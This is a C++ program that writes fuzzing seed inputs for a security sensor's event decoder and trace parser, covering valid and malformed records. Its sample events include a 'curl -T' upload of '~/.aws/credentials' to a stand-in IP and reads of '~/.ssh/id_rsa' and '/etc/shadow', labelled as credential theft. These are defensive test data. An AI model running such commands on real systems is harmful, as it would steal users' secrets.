// Writes the seed corpus of the fuzz harnesses. Built by meson, run by hand
// when the corpus needs regenerating (the output is checked in):
//
//   build/test/fuzz/make_corpus test/fuzz/corpus
//
// corpus/decode/: binary ring-buffer records: a valid one of every kind, cut
// ones, a wrong version, unknown kinds, bad fields, garbage. Files of the
// same name are overwritten; files this program no longer writes (and the
// found_* inputs libFuzzer added) are left alone.
// corpus/trace/:  trace texts (the first byte picks the reader's chunk size):
// valid lines of every kind, and broken ones.

#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <string>
#include <string_view>
#include <vector>

#include "barbwire/decode.hpp"
#include "barbwire/trace.hpp"

namespace fs = std::filesystem;
using namespace barbwire;

namespace {

bool write_file(const fs::path& path, const void* data, std::size_t size) {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out.write(static_cast<const char*>(data), static_cast<std::streamsize>(size));
    out.close();
    if (!out) {
        std::fprintf(stderr, "make_corpus: cannot write %s\n", path.c_str());
        return false;
    }
    return true;
}

bool write_bytes(const fs::path& dir, const std::string& name, const std::vector<std::byte>& b) {
    return write_file(dir / name, b.data(), b.size());
}

bool write_text(const fs::path& dir, const std::string& name, char chunk, std::string_view text) {
    std::string data(1, chunk);
    data += text;
    return write_file(dir / name, data.data(), data.size());
}

event base(event_body body) {
    event e;
    e.ts = nanoseconds{1'000'000'000};
    e.pid = 100;
    e.tid = 101;
    e.body = std::move(body);
    return e;
}

template <class Record>
std::vector<std::byte> patched(std::vector<std::byte> b, void (*patch)(Record&)) {
    Record r;
    std::memcpy(&r, b.data(), sizeof(r));
    patch(r);
    std::memcpy(b.data(), &r, sizeof(r));
    return b;
}

} // namespace

int main(int argc, char** argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: %s CORPUS_DIR (writes CORPUS_DIR/decode and CORPUS_DIR/trace)\n", argv[0]);
        return 2;
    }
    const fs::path root = argv[1];
    const fs::path dec = root / "decode", tr = root / "trace";
    std::error_code ec;
    fs::create_directories(dec, ec);
    fs::create_directories(tr, ec);
    if (ec) {
        std::fprintf(stderr, "make_corpus: cannot create %s: %s\n", root.c_str(), ec.message().c_str());
        return 1;
    }

    exec_event x;
    x.ppid = 1;
    x.uid = 1000;
    x.sid = 50;
    x.pgid = 60;
    x.exe_dev = 0x801;
    x.exe_ino = 1234;
    x.comm = "curl";
    x.exe = "/usr/bin/curl";
    x.argv = {"curl", "-T", "/home/a/.aws/credentials", "https://203.0.113.7/"};
    open_event o;
    o.path = "/home/a/.ssh/id_rsa";
    o.dev = 0x803;
    o.ino = 77;
    o.uid = 1000;
    net_event n4;
    n4.addr = *ip_address::parse("203.0.113.7");
    n4.port = 443;
    net_event n6;
    n6.op = net_op::send;
    n6.protocol = ip_proto::udp;
    n6.addr = *ip_address::parse("2001:db8::53");
    n6.port = 53;
    // ABI 3: an io_uring open, sends of any socket with their socket facts, writes
    open_event ou = o;
    ou.source = access_path::io_uring;
    net_event ntcp;
    ntcp.op = net_op::send;
    ntcp.protocol = ip_proto::tcp;
    ntcp.addr = *ip_address::parse("203.0.113.7");
    ntcp.port = 443;
    ntcp.sock = sock_kind::stream;
    ntcp.peer = true;
    ntcp.bytes = 3389;
    ntcp.conn_ts = nanoseconds{900'000'000};
    ntcp.cookie = 4097;
    net_event nraw;
    nraw.op = net_op::send;
    nraw.protocol = ip_proto{47};
    nraw.addr = *ip_address::parse("198.51.100.1");
    nraw.sock = sock_kind::raw;
    nraw.bytes = 1400;
    nraw.conn_ts = nanoseconds{-1}; // a ktime above INT64_MAX
    nraw.cookie = ~std::uint64_t{0};
    net_event nicmp;
    nicmp.op = net_op::send;
    nicmp.protocol = ip_proto::icmpv6;
    nicmp.addr = *ip_address::parse("2001:db8::1");
    nicmp.sock = sock_kind::dgram;
    nicmp.bytes = 64;
    net_event naccept = n4;
    naccept.accepted = true;
    naccept.sock = sock_kind::seqpacket;
    const write_event w{"/tmp/.k", 0x803, 5150, 3389, 1000, access_path::syscall, write_how::write};
    const write_event wc{"/home/a/.cache/copy", 0x803, 5151, 0, 1000, access_path::compat, write_how::copy};
    const write_event wu{"/home/a/clone", 1, 2, 4096, 0, access_path::io_uring, write_how::clone};

    // ABI 4: an exec with foreign code and a pending script, foreign and script records
    exec_event xs = x;
    xs.comm = "sync.py";
    xs.exe = "/usr/bin/python3.11";
    xs.foreign = preload_env | ptraced;
    xs.script.emplace();
    xs.script->path = "/usr/lib/cloud/sync.py";
    // ABI 5: the exec's cgroup, and the container the sensor resolved (traces only)
    exec_event xc = x;
    xc.cgroup_id = 4242;
    container_info ci;
    ci.id = std::string(64, 'a');
    ci.runtime = container_runtime::containerd;
    ci.cgroup = "/kubepods/besteffort/pod1b2c3d4e-aaaa-bbbb-cccc-0123456789ab/" + ci.id;
    ci.pod_uid = "1b2c3d4e-aaaa-bbbb-cccc-0123456789ab";
    ci.pod_name = "web-0";
    ci.verified = true;
    xc.container = ci;
    script_event sc;
    sc.script.path = "/usr/lib/cloud/sync.py";
    sc.script.dev = 0x803;
    sc.script.ino = 812;

    const std::vector<std::pair<std::string, event>> valid = {
        {"exec", base(x)},
        {"exec_script_foreign", base(xs)},
        {"exec_container", base(xc)},
        {"foreign_ptraced", base(foreign_event{.target = 300, .bits = ptraced})},
        {"foreign_mem_written", base(foreign_event{.target = 301, .bits = mem_written})},
        {"script", base(sc)},
        {"fork", base(fork_event{.child_pid = 200, .child_tid = 200})},
        {"fork_thread", base(fork_event{.child_pid = 100, .child_tid = 102})},
        {"exit", base(exit_event{.exit_code = 1})},
        {"open", base(o)},
        {"open_io_uring", base(ou)},
        {"connect_v4", base(n4)},
        {"connect_accepted", base(naccept)},
        {"send_v6", base(n6)},
        {"send_tcp", base(ntcp)},
        {"send_raw", base(nraw)},
        {"send_icmpv6", base(nicmp)},
        {"write", base(w)},
        {"write_copy", base(wc)},
        {"write_clone", base(wu)},
    };
    bool ok = true;
    for (const auto& [name, e] : valid) ok &= write_bytes(dec, "valid_" + name, *encode(e));

    // strings exactly filling their fields, and cut ones
    exec_event full;
    full.comm = std::string(BW_COMM_LEN, 'c');
    full.exe = std::string(BW_PATH_MAX, 'e');
    full.argv = {std::string(100, 'a'), "", std::string(BW_ARGV_MAX - 102, 'b')};
    ok &= write_bytes(dec, "exec_full_fields", *encode(base(full)));
    full.argv.push_back("cut");
    ok &= write_bytes(dec, "exec_truncated_flag", *encode(base(full)));

    const auto open_bytes = *encode(base(o));
    const auto exec_bytes = *encode(base(x));
    const auto net_bytes = *encode(base(n4));
    const auto write_rec = *encode(base(w));
    ok &= write_bytes(dec, "short_header", {open_bytes.begin(), open_bytes.begin() + 10});
    ok &= write_bytes(dec, "cut_open", {open_bytes.begin(), open_bytes.begin() + 100});
    auto with_size = [](std::vector<std::byte> b, std::size_t n) {
        b.resize(n);
        const auto sz = static_cast<std::uint32_t>(n);
        std::memcpy(b.data() + offsetof(bw_event_header, size), &sz, sizeof(sz));
        return b;
    };
    ok &= write_bytes(dec, "short_exec_consistent_size", with_size(exec_bytes, 64));
    ok &= write_bytes(dec, "oversized_net", with_size(net_bytes, 88));
    ok &= write_bytes(dec, "wrong_version",
                      patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.hdr.version = 1; }));
    ok &= write_bytes(dec, "unknown_kind", patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.hdr.kind = 10; }));
    // event_kind::file's number: not a kernel record, never decoded
    ok &= write_bytes(dec, "file_kind", patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.hdr.kind = 100; }));
    ok &= write_bytes(dec, "size_field_wrong",
                      patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.hdr.size = 4096; }));
    ok &= write_bytes(dec, "bad_family", patched<bw_net_event>(net_bytes, [](bw_net_event& r) { r.family = 1; }));
    ok &= write_bytes(dec, "bad_op", patched<bw_net_event>(net_bytes, [](bw_net_event& r) { r.op = 9; }));
    ok &= write_bytes(dec, "bad_sock_type", patched<bw_net_event>(net_bytes, [](bw_net_event& r) { r.sock_type = 4; }));
    // any protocol number is valid (a raw socket's); net_flags bits other than peer/accepted are ignored
    ok &= write_bytes(dec, "net_any_protocol_flags", patched<bw_net_event>(net_bytes, [](bw_net_event& r) {
                          r.protocol = 250;
                          r.net_flags = 0xFF;
                          r.sock_type = 6;
                      }));
    ok &= write_bytes(dec, "bad_open_source",
                      patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.source = 3; }));
    ok &= write_bytes(dec, "bad_write_path_size",
                      patched<bw_write_event>(write_rec, [](bw_write_event& r) { r.path_size = 513; }));
    ok &= write_bytes(dec, "bad_write_source",
                      patched<bw_write_event>(write_rec, [](bw_write_event& r) { r.source = 3; }));
    ok &= write_bytes(dec, "bad_write_how", patched<bw_write_event>(write_rec, [](bw_write_event& r) { r.how = 0; }));
    ok &= write_bytes(dec, "write_how_too_big",
                      patched<bw_write_event>(write_rec, [](bw_write_event& r) { r.how = 4; }));
    ok &= write_bytes(dec, "cut_write", {write_rec.begin(), write_rec.begin() + 100});
    ok &= write_bytes(dec, "short_write_consistent_size", with_size(write_rec, 64));
    ok &= write_bytes(dec, "oversized_write", with_size(write_rec, 576));
    ok &= write_bytes(dec, "net_abi2_size", with_size(net_bytes, 56));
    ok &= write_bytes(dec, "write_stale_bytes", patched<bw_write_event>(write_rec, [](bw_write_event& r) {
                          std::memset(r.path + 10, 'Z', 100); // after the NUL, within the field
                          r.hdr.flags = 0xFF;
                      }));
    ok &= write_bytes(dec, "bad_path_size",
                      patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.path_size = 600; }));
    const auto foreign_rec = *encode(base(foreign_event{.target = 300, .bits = ptraced}));
    const auto script_rec = *encode(base(sc));
    const auto exec_script_rec = *encode(base(xs));
    ok &= write_bytes(dec, "bad_exec_foreign",
                      patched<bw_exec_event>(exec_script_rec, [](bw_exec_event& r) { r.foreign = 0x80; }));
    ok &= write_bytes(dec, "exec_script_unterminated", patched<bw_exec_event>(exec_script_rec, [](bw_exec_event& r) {
                          std::memset(r.script, 'S', sizeof(r.script));
                      }));
    ok &= write_bytes(dec, "bad_foreign_bits",
                      patched<bw_foreign_event>(foreign_rec, [](bw_foreign_event& r) { r.bits = 0; }));
    ok &= write_bytes(dec, "bad_foreign_how",
                      patched<bw_foreign_event>(foreign_rec, [](bw_foreign_event& r) { r.how = 9; }));
    ok &= write_bytes(dec, "bad_script_path_size",
                      patched<bw_script_event>(script_rec, [](bw_script_event& r) { r.path_size = 513; }));
    ok &= write_bytes(dec, "cut_script", {script_rec.begin(), script_rec.begin() + 40});
    ok &= write_bytes(dec, "bad_argv_size",
                      patched<bw_exec_event>(exec_bytes, [](bw_exec_event& r) { r.argv_size = 257; }));
    ok &= write_bytes(dec, "stale_bytes",
                      patched<bw_open_event>(open_bytes, [](bw_open_event& r) {
                          std::memset(r.path + 20, 'Z', 100); // after the NUL, within the field
                          r.hdr.flags = 0xFF;
                          r._pad0 = 0xFF;
                      }));
    // the kernel filter: tagged full opens and repeat records (BW_EVENT_OPEN_REPEAT)
    const file_key fk{0xffff888001234500ull, 0xffff888005550000ull, 0xffff888001234000ull, 77, 0x0000000b1234abcdull, 9};
    for (const auto& [name, f] : {std::pair{"miss", open_filter::miss},
                                  std::pair{"sensitive_inode", open_filter::sensitive_inode},
                                  std::pair{"sensitive", open_filter::sensitive}}) {
        std::vector<std::byte> b(max_record_size);
        b.resize(encode_into(base(o), filter_tag{fk, 3, f}, b));
        ok &= write_bytes(dec, std::string("open_tagged_") + name, b);
    }
    open_repeat rep;
    rep.ts = nanoseconds{1'000'000'000};
    rep.pid = 100;
    rep.tid = 101;
    rep.dev = 0x803;
    rep.ino = 77;
    rep.flags = 0x8000;
    rep.uid = 1000;
    rep.key = fk;
    rep.gen = 3;
    rep.source = access_path::compat;
    const auto rep_bytes = encode_repeat(rep);
    ok &= write_bytes(dec, "valid_open_repeat", rep_bytes);
    ok &= write_bytes(dec, "repeat_ino_mismatch",
                      patched<bw_open_repeat_event>(rep_bytes, [](bw_open_repeat_event& r) { r.ino = 78; }));
    ok &= write_bytes(dec, "repeat_short_consistent_size", with_size(rep_bytes, 64));
    ok &= write_bytes(dec, "repeat_oversized", with_size(rep_bytes, 120));
    ok &= write_bytes(dec, "repeat_abi2_size", with_size(rep_bytes, 104));
    ok &= write_bytes(dec, "repeat_bad_source",
                      patched<bw_open_repeat_event>(rep_bytes, [](bw_open_repeat_event& r) { r.source = 3; }));
    ok &= write_bytes(dec, "open_bad_filter",
                      patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.filter = 9; }));

    std::vector<std::byte> garbage(57);
    for (std::size_t i = 0; i < garbage.size(); ++i) garbage[i] = static_cast<std::byte>(i * 37 + 11);
    ok &= write_bytes(dec, "garbage", garbage);

    // trace texts
    std::string lines;
    // a file event (identity of a named file) has no record, only a trace line
    auto with_file = valid;
    with_file.emplace_back("file", base(file_event{"/etc/shadow", 65024, 941}));
    for (const auto& [name, e] : with_file) {
        const std::string line = format_trace_line(e);
        ok &= write_text(tr, "valid_" + name, 64, line + "\n");
        lines += line + "\n";
    }
    ok &= write_text(tr, "all_kinds_chunk_7", 7, lines);
    ok &= write_text(tr, "hand_written", 3,
                     "# credential theft, by hand\n"
                     "{\"ts\": \"1s\", \"kind\": \"exec\", \"pid\": 100, \"comm\": \"cat\", \"argv\": [\"cat\", \"id_rsa\"]}\n"
                     "\n"
                     "{\"ts\": \"1.5s\", \"kind\": \"open\", \"pid\": 100, \"path\": \"/home/a/.ssh/id_rsa\"}\r\n"
                     "{\"ts\": \"250us\", \"kind\": \"fork\", \"pid\": 100, \"child_pid\": 101}\n"
                     "{\"ts\": 2000000000, \"kind\": \"connect\", \"pid\": 100, \"addr\": \"::1\", \"port\": 22, \"proto\": \"udp\"}");
    ok &= write_text(tr, "abi3_lines", 13,
                     "{\"ts\": \"1s\", \"kind\": \"open\", \"pid\": 100, \"path\": \"/home/a/.ssh/id_rsa\", \"source\": \"io_uring\"}\n"
                     "{\"ts\": \"1.1s\", \"kind\": \"write\", \"pid\": 100, \"path\": \"/tmp/.k\", \"bytes\": 3389, \"how\": \"copy\"}\n"
                     "{\"ts\": \"1.2s\", \"kind\": \"write\", \"pid\": 100, \"path\": {\"hex\": \"2fff\"}, \"source\": \"compat\"}\n"
                     "{\"ts\": \"2s\", \"kind\": \"send\", \"pid\": 100, \"addr\": \"203.0.113.7\", \"port\": 443, \"proto\": \"tcp\", "
                     "\"sock\": \"stream\", \"peer\": true, \"accepted\": false, \"bytes\": 3389, \"conn_ts\": \"1.5s\", \"cookie\": 4097}\n"
                     "{\"ts\": \"2s\", \"kind\": \"send\", \"pid\": 100, \"addr\": \"198.51.100.1\", \"port\": 0, \"proto\": 47, \"sock\": \"raw\"}\n"
                     "{\"ts\": \"2s\", \"kind\": \"send\", \"pid\": 100, \"addr\": \"198.51.100.1\", \"port\": 0, \"proto\": \"icmp\", \"conn_ts\": -1}\n"
                     "{\"ts\": \"2s\", \"kind\": \"connect\", \"pid\": 100, \"addr\": \"::1\", \"port\": 22, \"proto\": \"\\u0036\"}\n"
                     "{\"ts\":3,\"kind\":\"write\",\"pid\":1,\"tid\":1,\"path\":\"/x\",\"dev\":0,\"ino\":0,\"bytes\":0,\"uid\":0,\"source\":\"io_uring\",\"how\":\"clone\"}");
    ok &= write_text(tr, "issue13_lines", 11,
                     "{\"ts\": 1, \"kind\": \"exec\", \"pid\": 40, \"script\": {\"path\": \"./s.py\"}, \"foreign\": [\"preload_env\", \"audit_env\"]}\n"
                     "{\"ts\": 2, \"kind\": \"script\", \"pid\": 40, \"path\": \"/opt/s.py\", \"dev\": 1, \"ino\": 2, \"uid\": 0, \"mode\": \"0755\", \"host_file\": true}\n"
                     "{\"ts\": 3, \"kind\": \"foreign\", \"pid\": 41, \"target\": 40, \"bits\": [\"ptraced\", \"mem_written\"]}\n"
                     "{\"ts\": 4, \"kind\": \"foreign\", \"pid\": 41, \"target\": 40, \"bits\": []}\n"
                     "{\"ts\": 4, \"kind\": \"foreign\", \"pid\": 41, \"bits\": [\"ptraced\"]}\n"
                     "{\"ts\": 4, \"kind\": \"script\", \"pid\": 41, \"mode\": 99999}\n"
                     "{\"ts\": 4, \"kind\": \"exec\", \"pid\": 41, \"script\": {\"path\": {\"hex\": \"2fff\"}, \"x\": 1}}\n"
                     "{\"ts\": 4, \"kind\": \"exec\", \"pid\": 41, \"foreign\": [1]}");
    ok &= write_text(tr, "abi3_broken_lines", 6,
                     "{\"ts\": 1, \"kind\": \"write\", \"pid\": 1}\n"
                     "{\"ts\": 1, \"kind\": \"write\", \"pid\": 1, \"path\": \"/x\", \"how\": \"move\"}\n"
                     "{\"ts\": 1, \"kind\": \"write\", \"pid\": 1, \"path\": \"/x\", \"flags\": 0}\n"
                     "{\"ts\": 1, \"kind\": \"open\", \"pid\": 1, \"path\": \"/x\", \"source\": 2}\n"
                     "{\"ts\": 1, \"kind\": \"send\", \"pid\": 1, \"addr\": \"::1\", \"port\": 0, \"proto\": 256}\n"
                     "{\"ts\": 1, \"kind\": \"send\", \"pid\": 1, \"addr\": \"::1\", \"port\": 0, \"proto\": \"06\"}\n"
                     "{\"ts\": 1, \"kind\": \"send\", \"pid\": 1, \"addr\": \"::1\", \"port\": 0, \"sock\": \"unknown\"}\n"
                     "{\"ts\": 1, \"kind\": \"send\", \"pid\": 1, \"addr\": \"::1\", \"port\": 0, \"peer\": 1}\n"
                     "{\"ts\": 1, \"kind\": \"send\", \"pid\": 1, \"addr\": \"::1\", \"port\": 0, \"conn_ts\": \"1.5ns\"}\n"
                     "{\"ts\": 1, \"kind\": \"send\", \"pid\": 1, \"addr\": \"::1\", \"port\": 0, \"cookie\": -1}\n"
                     "{\"ts\": 1, \"kind\": \"exit\", \"pid\": 1, \"how\": \"copy\"}\n"
                     "{\"ts\": 2, \"kind\": \"exit\", \"pid\": 2}");
    ok &= write_text(tr, "file_lines", 9,
                     "{\"ts\": \"0s\", \"kind\": \"file\", \"path\": \"/etc/shadow\", \"dev\": 65024, \"ino\": 941}\n"
                     "{\"ts\": 1, \"kind\": \"file\", \"path\": {\"hex\": \"2fff\"}, \"dev\": 1, \"ino\": 2}\n"
                     "{\"ts\": 1, \"kind\": \"file\", \"path\": \"etc/shadow\", \"dev\": 1, \"ino\": 2}\n"
                     "{\"ts\": 1, \"kind\": \"file\", \"path\": \"/etc/shadow\", \"ino\": 2}\n"
                     "{\"ts\": 1, \"kind\": \"file\", \"path\": \"/etc/shadow\", \"dev\": \"1\", \"ino\": 2}\n"
                     "{\"ts\":1,\"kind\":\"file\",\"pid\":0,\"tid\":0,\"path\":\"/\",\"dev\":1,\"ino\":18446744073709551615}");
    ok &= write_text(tr, "exe_owner_mode", 11,
                     "{\"ts\": 1, \"kind\": \"exec\", \"pid\": 7, \"exe\": \"/usr/bin/ssh\", \"exe_uid\": 0, \"exe_mode\": \"0755\"}\n"
                     "{\"ts\":1,\"kind\":\"exec\",\"pid\":7,\"exe_uid\":4294967295,\"exe_mode\":4095}\n"
                     "{\"ts\": 1, \"kind\": \"exec\", \"pid\": 7, \"exe_mode\": \"0758\"}\n"
                     "{\"ts\": 1, \"kind\": \"exec\", \"pid\": 7, \"exe_mode\": 4096}\n"
                     "{\"ts\": 1, \"kind\": \"exec\", \"pid\": 7, \"exe_mode\": \"\\u0030755\"}\n"
                     "{\"ts\": 1, \"kind\": \"exec\", \"pid\": 7, \"exe_uid\": -1, \"exe_mode\": null}");
    ok &= write_text(tr, "hex_strings", 16,
                     "{\"ts\": 1, \"kind\": \"open\", \"pid\": 1, \"path\": {\"hex\": \"2fff00\"}}\n");
    ok &= write_text(tr, "broken_lines", 5,
                     "{\"ts\": 1, \"kind\": \"exit\", \"pid\": 1}\n"
                     "{\"ts\": 1, \"kind\": \"exit\", \"pid\": \n"
                     "{\"ts\": 1, \"kind\": \"exit\", \"pid\": 1, \"typo\": 2}\n"
                     "{\"ts\": \"1.5ns\", \"kind\": \"exit\", \"pid\": 1}\n"
                     "{\"ts\": 1, \"kind\": \"connect\", \"pid\": 1, \"addr\": \"1.2.3\", \"port\": 70000}\n"
                     "[1,2,3]\n"
                     "{\"ts\": 1, \"kind\": \"exit\", \"pid\": 4294967296}\n"
                     "{\"ts\": 2, \"kind\": \"exit\", \"pid\": 2}");
    std::string binary = "\x01\xff\xfe\x00{\"\x80\"}\n\xc0\xaf\n";
    binary.push_back('\0');
    ok &= write_text(tr, "binary", 1, binary);
    ok &= write_text(tr, "deep_nesting", 64, std::string(2000, '[') + "\n{\"a\":" + std::string(2000, '{') + "\n");
    return ok ? 0 : 1;
}
